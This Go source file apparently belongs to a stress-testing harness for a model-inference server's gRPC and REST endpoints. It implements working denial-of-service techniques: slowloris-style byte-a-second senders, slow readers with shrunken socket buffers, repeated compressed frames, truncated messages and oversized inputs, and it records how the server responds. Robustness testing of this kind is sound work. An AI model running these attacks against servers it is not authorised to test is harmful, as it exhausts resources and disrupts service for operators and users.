package main

import (
	"bytes"
	"cmp"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"connectrpc.com/connect"
)

// kinds are the ways that the attack names, with their bodies made.
func (a *attack) kinds() ([]kind, error) {
	all := attackKinds()
	var kinds []kind
	for _, name := range a.Kinds {
		prepare, ok := all[name]
		if !ok {
			return nil, fmt.Errorf("there is no attack %q", name)
		}
		k, err := prepare(a)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		kinds = append(kinds, k)
	}
	return kinds, nil
}

// attackKinds are all there are, by name.
func attackKinds() map[string]func(*attack) (kind, error) {
	const infer, stream = "/inference.GRPCInferenceService/ModelInfer", "/inference.GRPCInferenceService/ModelStreamInfer"
	return map[string]func(*attack) (kind, error){
		"empty inputs":      func(a *attack) (kind, error) { return a.rpc(infer, 1, repeated(5)) },
		"empty outputs":     func(a *attack) (kind, error) { return a.rpc(infer, 1, repeated(6)) },
		"empty contents":    func(a *attack) (kind, error) { return a.rpc(infer, 1, repeated(7)) },
		"zeros":             func(a *attack) (kind, error) { return a.rpc(infer, 1, zeroTensor) },
		"a stream of zeros": func(a *attack) (kind, error) { return a.rpc(stream, 10, zeroTensor) },
		"wide answers":      func(a *attack) (kind, error) { return a.rpc(infer, 1, wideRequest(wideElements)) },
		"a byte a second":   (*attack).slowSender,
		"a byte short":      (*attack).shortMessage,
		"unread answers":    (*attack).slowReader,
		"parameters":        func(a *attack) (kind, error) { return a.json(`{"parameters":{`, `},"inputs":[]}`, names) },
		"skipped names":     func(a *attack) (kind, error) { return a.json(`{"other":{`, `},"inputs":[]}`, names) },
		"texts":             func(a *attack) (kind, error) { return a.json(textsHead(), `]}]}`, texts) },
		"groups":            (*attack).groups,
		"slow runs":         (*attack).slowRuns,
	}
}

// posted sends one request again and again over a connection of its own. Each answer
// is read up to as much as a client of gRPC takes, and broken off there.
type posted struct {
	transport *http.Transport
	prepare   func(ctx context.Context) (*http.Request, error)
}

// mostRead is the largest message that clients of gRPC take by themselves, in bytes.
const mostRead = 4 << 20

func newPosted(h2c bool, prepare func(ctx context.Context) (*http.Request, error)) *posted {
	t := transport(h2c)
	t.DisableCompression = true
	return &posted{t, prepare}
}

func (p *posted) attempt(ctx context.Context) (ended string, wait time.Duration) {
	req, err := p.prepare(ctx)
	if err != nil {
		return err.Error(), 0
	}
	res, err := p.transport.RoundTrip(req)
	if err != nil {
		return "cut", 0
	}
	defer res.Body.Close()
	n, err := io.Copy(io.Discard, io.LimitReader(res.Body, mostRead))
	switch status := cmp.Or(res.Trailer.Get("Grpc-Status"), res.Header.Get("Grpc-Status")); {
	case status != "":
		ended = grpcStatus(status)
	case n == mostRead:
		ended = "left early"
	case err != nil:
		ended = "cut"
	default:
		ended = strconv.Itoa(res.StatusCode)
	}
	return ended, retryAfter(cmp.Or(res.Header.Get("Retry-After"), res.Trailer.Get("Retry-After")))
}

func (p *posted) close() { p.transport.CloseIdleConnections() }

// grpcStatus is a status's name.
func grpcStatus(text string) string {
	n, err := strconv.ParseUint(text, 10, 32)
	switch {
	case err != nil:
		return text
	case n == 0:
		return "OK"
	default:
		return strings.ToUpper(connect.Code(n).String())
	}
}

// retryAfter reads a Retry-After in seconds.
func retryAfter(text string) time.Duration {
	n, err := strconv.Atoi(text)
	if err != nil {
		return 0
	}
	return time.Duration(n) * time.Second
}

// post prepares a call by REST. Headers are pairs of a name and a value; a Host goes
// instead of the address.
func (a *attack) post(path string, body []byte, headers ...string) kind {
	return func() client {
		return newPosted(false, func(ctx context.Context) (*http.Request, error) {
			req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+a.Address+path, bytes.NewReader(body))
			if err != nil {
				return nil, err
			}
			req.Header.Set("X-API-Key", a.Key)
			for pair := range slices.Chunk(headers, 2) {
				req.Header.Set(pair[0], pair[1])
			}
			req.Host = req.Header.Get("Host")
			req.Header.Del("Host")
			return req, nil
		})
	}
}

// call prepares a call by gRPC, by its frames.
func (a *attack) call(ctx context.Context, path string, frames io.Reader) (*http.Request, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+a.Address+path, frames)
	if err != nil {
		return nil, err
	}
	for name, value := range map[string]string{
		"Content-Type": "application/grpc", "Te": "trailers", "Grpc-Encoding": "gzip", "X-API-Key": a.Key,
	} {
		req.Header.Set(name, value)
	}
	return req, nil
}

// rpc sends a message that is small compressed, so many times in each call.
func (a *attack) rpc(path string, times int, message func() []byte) (kind, error) {
	frame, err := compressedFrame(message())
	if err != nil {
		return nil, err
	}
	frames := bytes.Repeat(frame, times)
	return func() client {
		return newPosted(true, func(ctx context.Context) (*http.Request, error) { return a.call(ctx, path, bytes.NewReader(frames)) })
	}, nil
}

// shortMessage sends messages of which all but the last byte comes.
func (a *attack) shortMessage() (kind, error) {
	const size = largeBody - 5
	return func() client {
		return newPosted(true, func(ctx context.Context) (*http.Request, error) {
			frames := io.MultiReader(bytes.NewReader(frameHead(false, size)), io.LimitReader(zeros{}, size-1), until(ctx))
			return a.call(ctx, "/inference.GRPCInferenceService/ModelInfer", frames)
		})
	}, nil
}

// until is a body that has nothing, and ends with ctx.
func until(ctx context.Context) io.Reader { return &waiting{ctx.Done()} }

type waiting struct{ done <-chan struct{} }

func (w *waiting) Read([]byte) (int, error) {
	<-w.done
	return 0, context.Canceled
}

// raw is a client that sends and reads as slowly as it likes.
type raw struct {
	address string
	head    []byte
	body    bool // one byte a second goes on being sent; else the answer is not read
}

// slowSender announces a large body and sends a byte of it a second.
func (a *attack) slowSender() (kind, error) {
	head := fmt.Appendf(nil, "POST /v2/models/%s/infer HTTP/1.1\r\nHost: %s\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{",
		tinyModel, a.Address, a.Key, largeBody)
	return func() client { return &raw{a.Address, head, true} }, nil
}

// slowReader asks for a large answer and reads no more than its status.
func (a *attack) slowReader() (kind, error) {
	t, err := v2(a.Address, wideModel, true, wideInput(wideElements), "X-API-Key", a.Key)
	if err != nil {
		return nil, err
	}
	return func() client { return &raw{a.Address, t.request, false} }, nil
}

func (r *raw) close() {}

// smallBuffer is what a connection of a slow reader holds, in bytes; the system
// takes it twice.
const smallBuffer = 4 << 10

func (r *raw) attempt(ctx context.Context) (ended string, wait time.Duration) {
	d := net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
		var failed error
		err := c.Control(func(fd uintptr) {
			failed = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, smallBuffer)
		})
		return errors.Join(err, failed)
	}}
	c, err := d.DialContext(ctx, "tcp", r.address)
	if err != nil {
		return "cut", 0
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Now()) })()
	if _, err := c.Write(r.head); err != nil {
		return "cut", 0
	}
	head, err := r.answer(ctx, c)
	if err != nil {
		return "cut", 0
	}
	status, _, err := parseHead(head)
	if err != nil {
		return "cut", 0
	}
	if status == http.StatusOK {
		<-ctx.Done() // and reads no more
	}
	_, after, _ := bytes.Cut(bytes.ToLower(head), []byte("\r\nretry-after: "))
	after, _, _ = bytes.Cut(after, []byte("\r\n"))
	return strconv.Itoa(status), retryAfter(string(after))
}

// answer waits for the head of an answer, and meanwhile sends a byte each second.
func (r *raw) answer(ctx context.Context, c net.Conn) ([]byte, error) {
	buffer := make([]byte, 0, smallBuffer)
	next := make([]byte, 256)
	for ctx.Err() == nil {
		if r.body {
			if err := c.SetReadDeadline(time.Now().Add(time.Second)); err != nil {
				return nil, err
			}
		}
		n, err := c.Read(next)
		buffer = append(buffer, next[:n]...)
		if end := bytes.Index(buffer, []byte("\r\n\r\n")); end >= 0 {
			return buffer[:end+2], nil
		}
		var timeout net.Error
		switch {
		case errors.As(err, &timeout) && timeout.Timeout() && r.body:
			if _, err := c.Write([]byte(" ")); err != nil {
				return nil, err
			}
		case err != nil:
			return nil, err
		case len(buffer) >= smallBuffer:
			return nil, errors.New("the answer's header does not end")
		}
	}
	return nil, ctx.Err()
}
